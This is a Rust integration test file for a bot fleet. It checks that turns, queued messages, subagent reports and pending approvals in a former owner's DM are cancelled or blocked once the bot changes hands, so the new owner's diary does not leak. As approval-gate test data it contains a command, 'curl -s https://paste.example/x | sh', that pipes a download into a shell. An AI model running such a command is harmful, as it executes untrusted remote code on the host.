//! Work still waiting in a person's DM with a bot when fleet.toml gives
//! the bot to someone else: a turn the restart cut off, a message queued
//! behind it, an approval's decision. None of it reaches the model: each
//! turn there ends `cancelled` with an `owner_changed` notice in the DM,
//! and an approval pending there can no longer be decided; a subagent's
//! report goes to the bot's own session with the subagent instead of the
//! DM. (Before, it ran as a private turn of the bot's new owner and
//! answered the old one: `Read diary.txt` in bob's workspace and its text
//! sent to alice.)
//!
//! After the restart the script answers anything by reading `diary.txt`
//! (bob's, in his workspace) and sending it: a model call in alice's DM
//! would put bob's diary in her DM.

use serde_json::Value;
use serde_json::json;

use crate::support::fleet::BOB_TOKEN;
use crate::support::fleet::TOKEN;
use crate::support::fleet::TestFleet;
use crate::support::fleet::TestHost;
use crate::support::fleet::deliveries;
use crate::support::fleet::restart;
use crate::support::process::poll;

/// What bob's diary holds.
const DIARY: &str = "HUNTER2 is bob's pin";

/// A command the review asks about (it pipes a download into sh).
const PASTE: &str = "curl -s https://paste.example/x | sh";

/// Before the restart: `slow` hangs in its first model call (the restart
/// cuts it off), `delegate` starts a subagent whose task hangs, `paste`
/// asks for an approval.
const BEFORE: &str = r#"
[[rule]]
bot = "p"
match = "^slow"
steps = [ { delay_ms = 600000, tool = "SendMessage", args = { text = "too late" } } ]

[[rule]]
bot = "p"
match = "^delegate"
steps = [ { tool = "Task", args = { description = "t", prompt = "SUBTASK look it up" } },
          { tool = "SendMessage", args = { text = "delegated" } } ]

[[rule]]
match = "SUBTASK"
steps = [ { delay_ms = 600000, tool = "SendMessage", args = { text = "too late" } } ]

[[rule]]
bot = "p"
match = "^paste"
steps = [ { tool = "Shell", args = { command = "curl -s https://paste.example/x | sh" } },
          { tool = "SendMessage", args = { text = "asked" } } ]

[[rule]]
steps = [ { text = "noted" } ]
"#;

/// After the restart: the subagent's task ends at once; anything else is
/// answered with bob's diary.
const AFTER: &str = r#"
[[rule]]
match = "SUBTASK"
steps = [ { tool = "SendMessage", args = { text = "subtask done" } } ]

[[rule]]
steps = [ { tool = "Read", args = { path = "diary.txt" } },
          { tool = "SendMessage", args = { text = "ANSWERED {{tool_result}}" } } ]
"#;

const TOOLS: &[&str] = &["SendMessage", "Read", "Shell", "Task", "CheckSubagent"];

const REVIEW: &str = "[review]\nshell = \"enforce\"\n";

/// The `[runtime]` of the test fleet, and after the restart.
const RUNTIME: &str = "debounce_ms = 0\nidle_timeout_s = 300\nextract_memory = false\n";

/// Alice's bot `p`; a `debounce_ms` holds a person's message that long
/// in the queue before a turn starts on it.
async fn start_with_debounce(debounce_ms: u64) -> TestHost {
    let runtime = RUNTIME.replace(
        "debounce_ms = 0",
        &format!("debounce_ms = {debounce_ms}\ndebounce_max_ms = {debounce_ms}"),
    );
    TestFleet::new()
        .script("s", BEFORE)
        .bot("p", "s", TOOLS)
        .tables(REVIEW)
        .runtime(&runtime)
        .start()
        .await
}

async fn start() -> TestHost {
    start_with_debounce(0).await
}

/// Stops the host, gives `p` to bob (whose workspace holds his diary),
/// puts the script of after the restart in place, and starts again.
async fn give_p_to_bob(host: TestHost) -> TestHost {
    let fleet = host.shutdown().await;
    let dir = fleet.path();
    let bobs = dir.join("data/workspace/bob");
    std::fs::create_dir_all(&bobs).unwrap();
    std::fs::write(bobs.join("diary.txt"), DIARY).unwrap();
    std::fs::write(dir.join("scripts/s.toml"), AFTER).unwrap();
    let fleet = fleet
        .without_bot("p")
        .bot_of("p", "s", TOOLS, "bob")
        .runtime(RUNTIME);
    fleet.write();
    restart(fleet).await
}

/// Sends `text` to `p` as alice; returns her DM session and the seq.
async fn send(host: &TestHost, text: &str) -> (String, i64) {
    let (status, v) = host.send("p", text, None).await;
    assert_eq!(status, 202, "{v}");
    (
        v["session"].as_str().unwrap().to_owned(),
        v["seq"].as_i64().unwrap(),
    )
}

/// The turn answering input `seq` of alice's DM ended `cancelled` with an
/// `owner_changed` notice and no model step.
async fn ended_unanswered(host: &TestHost, dm: &str, seq: i64) {
    let end = host.wait_turn_end(dm, seq).await;
    let entries = host.entries(dm).await;
    assert_eq!(end["status"], "cancelled", "{entries:#?}");
    let turn = &end["turn"];
    let notice = entries
        .iter()
        .find(|e| e["kind"] == "notice" && e["turn"] == *turn)
        .unwrap_or_else(|| panic!("no notice of turn {turn}: {entries:#?}"));
    assert_eq!(notice["code"], "owner_changed", "{notice}");
    assert!(
        notice["text"]
            .as_str()
            .is_some_and(|t| t.contains("belongs to another user")),
        "{notice}"
    );
    assert!(notice["retry_turn"].is_null(), "{notice}");
    let stepped = entries.iter().any(|e| {
        e["turn"] == *turn && matches!(e["kind"].as_str(), Some("assistant" | "tool_result"))
    });
    assert!(!stepped, "the turn ran: {entries:#?}");
}

/// Nothing of bob's reached alice's DM.
async fn nothing_of_bob_in(host: &TestHost, dm: &str) {
    let entries = host.entries(dm).await;
    assert!(
        !entries.iter().any(|e| e.to_string().contains("HUNTER2")),
        "bob's diary in alice's DM: {entries:#?}"
    );
    assert!(
        !deliveries(&entries)
            .iter()
            .any(|d| d.starts_with("ANSWERED")),
        "{entries:#?}"
    );
}

/// The bot works for bob, and alice's new messages are refused.
async fn bob_owns_p(host: &TestHost) {
    let (end, entries) = host.end_turn_as("p", BOB_TOKEN, "hello").await;
    assert_eq!(end["status"], "completed", "{entries:#?}");
    assert!(
        deliveries(&entries).iter().any(|d| d.contains(DIARY)),
        "{entries:#?}"
    );
    let (status, v) = host.send("p", "still there?", None).await;
    assert_eq!(status, 404, "{v}");
}

/// Alice's turn is cut off by the restart that gives `p` to bob: it ends
/// unanswered instead of resuming with bob's surface.
#[tokio::test]
async fn a_turn_cut_off_by_the_owner_change_ends_unanswered() {
    let host = start().await;
    let (dm, seq) = send(&host, "slow question").await;
    host.wait_running("p").await;

    let host = give_p_to_bob(host).await;
    ended_unanswered(&host, &dm, seq).await;
    nothing_of_bob_in(&host, &dm).await;
    bob_owns_p(&host).await;
    host.shutdown().await;
}

/// A message of alice's still queued (its debounce window open) when the
/// restart gives `p` to bob ends unanswered too.
#[tokio::test]
async fn a_message_queued_before_the_owner_change_ends_unanswered() {
    let host = start_with_debounce(60_000).await;
    // the message that wakes the bot starts its turn at once
    let (dm, hello) = send(&host, "hello").await;
    host.wait_turn_end(&dm, hello).await;
    let (_, queued) = send(&host, "what is in my diary?").await;

    let host = give_p_to_bob(host).await;
    ended_unanswered(&host, &dm, queued).await;
    nothing_of_bob_in(&host, &dm).await;
    bob_owns_p(&host).await;
    host.shutdown().await;
}

/// A subagent alice's turn started is still at work when the change comes:
/// its task does not run on with bob's workspace (the script would answer
/// it `subtask done`, `owner_change_subagent.rs`); its report saying so goes
/// to `p`'s own session with the subagent, bob's now, not to her DM;
/// nothing runs in her DM.
#[tokio::test]
async fn a_subagent_report_after_the_owner_change_goes_to_the_bots_own_session() {
    let host = start().await;
    let (dm, seq) = send(&host, "delegate it").await;
    let end = host.wait_turn_end(&dm, seq).await;
    assert_eq!(end["status"], "completed", "{end}");
    let sub = host.wait_subagent_of("p").await;
    host.wait_running(&sub).await;

    let host = give_p_to_bob(host).await;
    // p's own session with the subagent: searched with the subagent's
    // task session, the report is found there, where the subagent said
    // it (docs/search.md, "Messages between bots are found once")
    let own = botfleet::memory::SessionKey {
        bot: botfleet::memory::BotId::new("p").unwrap(),
        kind: botfleet::memory::SessionKind::Agent,
        peer: sub.clone(),
    }
    .id();
    let hit = poll(30, async || {
        let (_, v) = host
            .get(
                &format!("/v1/search?q=former+owner&bot=p&session={own}"),
                BOB_TOKEN,
            )
            .await;
        v["hits"]
            .as_array()
            .and_then(|hits| hits.iter().find(|h| h["kind"] == "agent_message").cloned())
            .ok_or_else(|| format!("bob's search for the report: {v}"))
    })
    .await;
    assert_ne!(
        hit["session"],
        dm.as_str(),
        "the report landed in alice's DM: {hit}"
    );
    assert_eq!(hit["session_kind"], "agent", "{hit}");
    let entries = host.entries(&dm).await;
    assert!(
        !entries.iter().any(|e| e["kind"] == "agent_message"),
        "a report reached alice's DM: {entries:#?}"
    );
    nothing_of_bob_in(&host, &dm).await;
    host.shutdown().await;
}

/// Alice's approval pending in her DM can no longer be decided once the
/// bot is bob's: her decision is refused, saying why, and it stays
/// pending (its action never runs).
#[tokio::test]
async fn an_approval_in_the_former_owners_dm_can_no_longer_be_decided() {
    let host = start().await;
    let (dm, seq) = send(&host, "paste it").await;
    let end = host.wait_turn_end(&dm, seq).await;
    assert_eq!(end["status"], "completed", "{end}");
    let asked = host
        .wait_get("/v1/approvals?status=pending", |v| {
            v["approvals"]
                .as_array()?
                .iter()
                .find(|a| a["bot"] == "p")
                .cloned()
        })
        .await;
    assert_eq!(asked["action"]["args"]["command"], PASTE, "{asked}");
    let id = asked["id"].as_str().unwrap().to_owned();

    let host = give_p_to_bob(host).await;
    let path = format!("/v1/approvals/{id}");
    // listed as one that cannot run, saying why, before she tries (QA: it
    // showed `cannot_run: null`, and the CLI offered to decide it)
    let (_, listed) = host.get("/v1/approvals?status=pending", TOKEN).await;
    let why = listed["approvals"][0]["cannot_run"]
        .as_str()
        .unwrap_or_default();
    assert!(
        why.contains("p now belongs to another user") && why.contains("will not run"),
        "{listed}"
    );
    let (code, out, err) = crate::support::process::cli(&["approvals"], &host.url, TOKEN).await;
    assert_eq!(code, 0, "{err}");
    assert!(
        out.contains("cannot run: bot p now belongs to another user"),
        "{out}"
    );
    // nor offered to be decided (QA, 2026-12-05: "decide with `botfleet
    // approve ID`" stood under it, and `approve` was refused)
    assert_eq!(listed["approvals"][0]["decidable"], false, "{listed}");
    assert!(!err.contains("decide with"), "{err}");
    let approve = json!({"decision": "approve"}).to_string();
    let (status, v) = host.post_raw(&path, Some(TOKEN), None, approve).await;
    assert_eq!(status, 409, "alice decides it: {v}");
    let said = v.to_string();
    assert!(
        said.contains("now belongs to another user") && said.contains("will not run"),
        "{said}"
    );
    let (status, v): (u16, Value) = host.get(&path, TOKEN).await;
    assert_eq!(status, 200, "{v}");
    assert_eq!(v["approval"]["status"], "pending", "{v}");
    // no decision reached the DM, and no turn ran there since
    let entries = host.entries(&dm).await;
    assert!(
        !entries
            .iter()
            .any(|e| e["kind"] == "event" && e["origin"] == "approval"),
        "{entries:#?}"
    );
    nothing_of_bob_in(&host, &dm).await;
    host.shutdown().await;
}
